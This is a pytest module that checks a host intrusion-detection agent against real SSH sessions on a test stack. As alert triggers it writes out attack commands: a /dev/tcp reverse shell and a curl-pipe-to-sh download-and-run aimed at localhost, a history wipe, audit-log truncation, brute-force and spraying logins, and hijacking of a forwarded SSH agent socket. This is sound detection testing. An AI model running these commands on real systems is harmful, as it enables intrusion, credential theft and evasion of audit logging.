"""Detections on the real stack: one agent (auditd + journald, built-in rules and the shipped
SigmaHQ set) watches real SSH sessions; each built-in rule's scenario raises its alert with
the session origin it came from, ordinary admin work raises none, SigmaHQ rules fire with
their id, title, level and ATT&CK tags, and SIGHUP applies a disabled rule / new threshold
without losing state; a kill -9 is seen at the next start.

Other helpers share this stack and log in from 127.0.0.1, so every scenario here logs in
from a source address of its own (ssh -b 127.0.0.N) and assertions pick alerts by it.

Two rules have no scenario here, because the stack is shared: "auditd stopped" needs the
audit daemon stopped, and while it is down the kernel's records go to kmsg and are lost
to every other user of the stack's audit log (and to its live benchmarks' auditd figures);
"events lost during a session" needs real loss: a backlog overflow (global audit settings,
others' events dropped), auditd down (as above), or `auditctl --reset-lost` (resets the
kernel counter other work reads). Both are tested on built documents
(tests/unit/test_detections_engine.py).
"""

from __future__ import annotations

import os
import shutil
import signal
import subprocess
import tempfile
import threading
import time
import uuid
from datetime import datetime, timedelta, timezone

import pytest

from tests.stack.session import SSH_BASE, PtyProcess, SessionError, sftp_batch
from tests.system.agentd_proc import REPO, AgentProc

pytestmark = pytest.mark.stack

TAG = uuid.uuid4().hex[:6]
IP = {name: f"127.0.{n}.{int(TAG[:2], 16) % 200 + 20}" for name, n in
      (("brute", 61), ("spray", 62), ("work", 63), ("work2", 64), ("shared", 65), ("baseline", 66),
       ("victim", 67))}


def _conf() -> str:
    now = datetime.now(timezone.utc)
    a, b = now + timedelta(hours=2), now + timedelta(hours=3)  # a window that excludes now
    return (
        "[collector:journald]\ntype = journald\n"
        f"[detections]\nsigma_dirs = {os.path.join(REPO, 'rules', 'sigma')}\n"
        # The bastion tuning rules/sigma/README.md recommends: Debian's own login runs these.
        "sigma_disabled = System Information Discovery, Local System Accounts Discovery - Linux\n"
        "[detection:ssh_password_spraying]\nusers = 3\n"
        f"[detection:login_outside_policy]\nallowed_hours = {a:%H:%M}-{b:%H:%M}\nallow_users = alice, bob\n"
        "[detection:root_or_shared_login]\nshared_accounts = dave\n"
        "[detection:login_new_network]\nprefix_v4 = 32\n"
        "[detection:egress_policy]\nallowed_destination_ports = 22, 2222, 53\n"
        "[detection:bulk_transfer]\nthreshold = 1MiB\n"
    )


def attempt(user: str, password: str, src: str, port: int = 2222) -> bool:
    argv = [*SSH_BASE, "-o", "PreferredAuthentications=password", "-o", "PubkeyAuthentication=no",
            "-o", "NumberOfPasswordPrompts=1", "-b", src, "-p", str(port), f"{user}@127.0.0.1", "true"]
    p = PtyProcess(argv)
    try:
        p.expect(rb"[Pp]assword: ?$", 20)
        p.send(password + "\n")
    except SessionError:
        pass
    return p.wait(40) == 0


def alerts(evs: list, rule_id: str, ip: str = "") -> list:
    return [e for e in evs if e["event"].get("kind") == "alert" and e["rule"]["id"] == rule_id
            and (not ip or ip in ((e.get("session") or {}).get("source", {}).get("ip"),
                                  (e.get("source") or {}).get("ip")))]


@pytest.fixture(scope="module")
def run(stack, tmp_path_factory):
    """Drive every scenario once against one agent; the tests then read its output."""
    from tests.stack.session import SshSession

    tmp = tmp_path_factory.mktemp("det")
    agent = AgentProc(tmp)
    with open(agent.conf, "a") as f:
        f.write(_conf())
    agent.start()
    users = stack.users
    key = users["alice"]["key_path"]
    # Brute force: 5 wrong passwords for carol from one address, then the right one.
    for _ in range(5):
        assert not attempt("carol", "wrong-" + TAG, IP["brute"])
    # Spraying: three unknown users from another address, in parallel.
    ts = [threading.Thread(target=attempt, args=(f"nosuch{TAG}{i}", "x", IP["spray"])) for i in range(3)]
    for t in ts:
        t.start()
    for t in ts:
        t.join(60)
    with SshSession("carol", password=users["carol"]["password"], extra_args=["-b", IP["brute"]]) as s:
        # carol is in no sudoers rule: sudo takes her password, then refuses.
        s.run(f"printf '%s\\n' '{users['carol']['password']}' | sudo -S -p '' true 2>/dev/null; true", timeout=30)
    # Shared account (dave) from its own address: also outside the allowed hours.
    with SshSession("dave", password=users["dave"]["password"], extra_args=["-b", IP["shared"]]) as s:
        s.run("true")
    # alice: first login learns 127.0.x (work); the second from work2 is a new network.
    with SshSession("alice", key=key, extra_args=["-b", IP["work"]]) as s:
        s.run("ssh -o BatchMode=yes 127.0.0.2 true")  # learns a destination
        s.run("history -c; unset HISTFILE")
        s.run("bash -c 'exec 3<>/dev/tcp/127.0.0.1/9' 2>/dev/null; true")
        s.run("curl -s --max-time 2 http://127.0.0.1:9/x.sh | sh; true")
        s.run("sudo bash -c true")
        s.run(f"sudo auditctl -w /tmp/agentd-det-{TAG} -p wa -k det{TAG}; "
              f"sudo auditctl -W /tmp/agentd-det-{TAG} -p wa -k det{TAG}")
        s.run("sudo truncate -s +0 /var/log/audit/audit.log")
        s.run(f"sudo touch /etc/pam.d/agentd-det-{TAG}; sudo rm -f /etc/pam.d/agentd-det-{TAG}")
        s.send("su -c true carol\r")
        s.expect("assword:", 20)
        s.send("wrong\r")
        s.wait_prompt(30)
        # SigmaHQ process_creation rules, each with a harmless command.
        fifo = f"/tmp/agentd-det-fifo-{TAG}"
        for cmd in ("base64 -d /dev/null", "groups >/dev/null", "id >/dev/null", "uname -a >/dev/null",
                    f"mkfifo {fifo}; rm -f {fifo}", "nohup true >/dev/null 2>&1",
                    "find /tmp -maxdepth 0 -perm -4000", "cat /etc/passwd >/dev/null",
                    f"chmod 700 /tmp/agentd-det-x-{TAG} 2>/dev/null; true", "ip addr >/dev/null",
                    "cat /etc/sudoers >/dev/null 2>&1; true", "python3 -c 'import pty' 2>/dev/null; true",
                    f"dd if=/dev/zero of=/tmp/agentd-det-dd-{TAG} bs=1 count=1 2>/dev/null; rm -f /tmp/agentd-det-dd-{TAG}"):
            s.run(cmd)
    with SshSession("alice", key=key, extra_args=["-b", IP["work2"]]) as s:
        s.run("true")
    # Bulk transfer: 2 MiB up by sftp.
    blob = tmp / "blob.bin"
    blob.write_bytes(os.urandom(2 * 1024 * 1024))
    sftp_batch("alice", key, [f"put {blob} /tmp/agentd-det-blob-{TAG}", f"rm /tmp/agentd-det-blob-{TAG}"])
    ready = agent.wait_for(lambda evs: evs if alerts(evs, "agentd-sudo-denied") and alerts(
        evs, "agentd-history-wipe") and alerts(evs, "agentd-bulk-transfer") else None, timeout=90)
    yield agent, ready
    agent.stop()


CASES = [
    ("agentd-ssh-brute-force", "brute", None),
    ("agentd-ssh-password-spraying", "spray", None),
    ("agentd-ssh-success-after-failures", "brute", "carol"),
    ("agentd-root-or-shared-login", "shared", "dave"),
    ("agentd-login-outside-policy", "shared", "dave"),
    ("agentd-login-new-network", "work2", "alice"),
    ("agentd-history-wipe", "work", "alice"),
    ("agentd-reverse-shell", "work", "alice"),
    ("agentd-download-and-run", "work", "alice"),
    ("agentd-sudo-shell", "work", "alice"),
    ("agentd-audit-rules-changed", "work", "alice"),
    ("agentd-audit-log-tampered", "work", "alice"),
    ("agentd-pam-tty-audit-removed", "work", "alice"),
    ("agentd-su-failure", "work", "alice"),
    ("agentd-egress-policy", "work", "alice"),
    ("agentd-new-destination", "work", "alice"),
    ("agentd-sudo-denied", "brute", "carol"),
]


@pytest.mark.parametrize("rule_id,where,user", CASES, ids=[c[0] for c in CASES])
def test_builtin_rule_fires_with_its_session_origin(run, rule_id, where, user):
    agent, evs = run
    got = alerts(agent.events(), rule_id, IP[where])
    assert got, f"no {rule_id} alert from {IP[where]}; alerts of that rule, with their origin: " + repr(
        [((e.get("session") or {}).get("source"), e.get("source"), e["message"]) for e in alerts(agent.events(), rule_id)])
    a = got[0]
    assert a["event"]["dataset"] == "agentd.alert" and a["rule"]["ruleset"] == "agentd"
    assert a["agentd"]["alert"]["evidence"] and a["threat"]["technique"]["id"]
    if user:
        assert a["session"]["user"] == user and a["session"]["source"]["ip"] == IP[where]


def test_bulk_transfer_alert_is_in_alice_session(run):
    agent, _ = run
    got = [a for a in alerts(agent.events(), "agentd-bulk-transfer") if a["session"]["user"] == "alice"]
    assert got and got[0]["session"]["id"]


def test_alerts_are_counted_in_the_session_summary(run):
    agent, _ = run
    evs = agent.events()
    ended = [e for e in evs if e["event"].get("action") == "session-ended"
             and (e.get("session") or {}).get("source", {}).get("ip") == IP["work"]]
    assert ended and ended[-1]["agentd"]["session"]["alerts"] >= 10


def test_at_least_ten_sigmahq_rules_fire_with_their_metadata(run):
    agent, _ = run
    sigma = [a for a in agent.events() if a["event"].get("kind") == "alert" and a["rule"]["ruleset"] == "sigma"
             and (a.get("session") or {}).get("source", {}).get("ip") == IP["work"]]
    ids = {a["rule"]["id"] for a in sigma}
    assert len(ids) >= 10, sorted({a["rule"]["name"] for a in sigma})
    for a in sigma:
        assert a["rule"]["name"] and a["agentd"]["alert"]["level"] in ("informational", "low", "medium", "high",
                                                                       "critical")
        assert any(t.startswith("attack.") for t in a.get("tags", [])), a["rule"]["name"]


def test_ordinary_admin_work_raises_nothing(run, stack):
    from tests.stack.session import SshSession, scp

    agent, _ = run
    key = stack.users["alice"]["key_path"]
    marker = f"agentd-baseline-{TAG}"
    with open(f"/tmp/{marker}", "w") as f:
        f.write("setting = 1\n")
    # From a network alice already used: a first-seen network is not ordinary work.
    with SshSession("alice", key=key, extra_args=["-b", IP["work"]]) as s:
        s.run("dpkg -l openssh-server >/dev/null; apt-cache policy sudo >/dev/null")
        s.run("tail -n 5 /var/log/dpkg.log >/dev/null 2>&1; journalctl -n 5 --no-pager >/dev/null 2>&1; true")
        s.run(f"sudo sed -i 's/= 1/= 2/' /tmp/{marker}")
        s.run("ssh -o BatchMode=yes 127.0.0.2 uptime >/dev/null")
        s.run("systemctl status ssh >/dev/null 2>&1; true")
        s.run(f"/bin/echo {marker}")
    scp("alice", key, "/etc/hostname", f"/tmp/{marker}.conf")
    def session_of_marker(evs):
        return next((e["session"]["id"] for e in evs if marker in ((e.get("process") or {}).get("command_line") or "")
                     and e.get("session")), None)

    sid = agent.wait_for(session_of_marker, timeout=60)
    evs = agent.wait_for(lambda evs: evs if any(e["event"].get("action") == "session-ended" and
                                                (e.get("session") or {}).get("id") == sid for e in evs) else None,
                         timeout=60)
    os.remove(f"/tmp/{marker}")
    noisy = [(a["rule"]["id"], a["message"]) for a in evs if a["event"].get("kind") == "alert"
             and (a.get("session") or {}).get("id") == sid]
    assert noisy == []


def test_someone_elses_forwarded_agent_socket_raises_its_alert(stack, tmp_path, monkeypatch):
    """alice forwards her SSH agent; root (sudo, in her own session) connects to her agent socket.
    An agent of its own (auditd only, built-in rules): seconds, not the module's scenario."""
    from tests.stack import session
    from tests.stack.session import SshSession

    agent = AgentProc(tmp_path).start()
    # SSH_BASE's IdentityAgent=none also turns agent forwarding off: this session forwards one.
    i = session.SSH_BASE.index("IdentityAgent=none")
    monkeypatch.setattr(session, "SSH_BASE", session.SSH_BASE[:i - 1] + session.SSH_BASE[i + 1:])
    sock = os.path.join(tempfile.mkdtemp(prefix="agt-", dir="/tmp"), "s")
    started = subprocess.run(["ssh-agent", "-a", sock], capture_output=True, text=True, check=True)
    pid = int(started.stdout.split("SSH_AGENT_PID=")[1].split(";")[0])
    monkeypatch.setenv("SSH_AUTH_SOCK", sock)  # ssh -A forwards the agent of its environment
    try:
        subprocess.run(["ssh-add", "-q", stack.users["alice"]["key_path"]], check=True, capture_output=True,
                       timeout=30)
        with SshSession("alice", key=stack.users["alice"]["key_path"], extra_args=["-b", IP["victim"], "-A"]) as s:
            path = s.run("echo $SSH_AUTH_SOCK").strip()
            assert path.startswith("/tmp/ssh-"), path
            assert "SHA256:" in s.run("ssh-add -l")  # her own use: no alert
            s.run(f"sudo env SSH_AUTH_SOCK={path} ssh-add -l >/dev/null; true")
        got = agent.wait_for(lambda evs: alerts(evs, "agentd-ssh-agent-hijack", IP["victim"]), timeout=60)
    finally:
        os.kill(pid, signal.SIGTERM)
        agent.stop()
        shutil.rmtree(os.path.dirname(sock), ignore_errors=True)
    assert len(got) == 1, [a["message"] for a in got]
    a = got[0]
    assert a["session"]["user"] == "alice" and path in a["message"] and "uid 0" in a["message"]


def test_sighup_applies_a_disabled_rule_and_kill9_is_seen_at_next_start(run, stack):
    from tests.stack.session import SshSession

    agent, _ = run
    with open(agent.conf, "a") as f:
        f.write("[detection:sudo_shell]\nenabled = false\n")
    agent.proc.send_signal(signal.SIGHUP)
    deadline = time.monotonic() + 30
    while "reloading" not in agent.log_text() and time.monotonic() < deadline:
        time.sleep(0.2)
    assert "reloading" in agent.log_text()
    time.sleep(2)
    before, mark = f"before-hup-{TAG}", f"after-hup-{TAG}"
    with SshSession("alice", key=stack.users["alice"]["key_path"], extra_args=["-b", IP["work"]]) as s:
        s.run(f"/bin/echo {before}")
        s.run("sudo bash -c true")
        s.run(f"/bin/echo {mark}")

    def cmd_of(e):
        return (e.get("process") or {}).get("command_line") or ""
    evs = agent.wait_for(lambda evs: evs if any(mark in cmd_of(e) for e in evs) else None, timeout=60)
    hup_at = min(e["@timestamp"] for e in evs if before in cmd_of(e))
    time.sleep(3)
    late = [a for a in alerts(agent.events(), "agentd-sudo-shell", IP["work"]) if a["@timestamp"] >= hup_at]
    assert late == []
    agent.kill9()
    agent.start()
    got = agent.wait_for(lambda evs: [e for e in evs if e["event"].get("dataset") == "agentd.agent"
                                      and e["event"].get("action") == "agent-killed"], timeout=60)
    assert got
    assert any(a["rule"]["id"] == "agentd-agent-tampered" for a in agent.events()
               if a["event"].get("kind") == "alert")
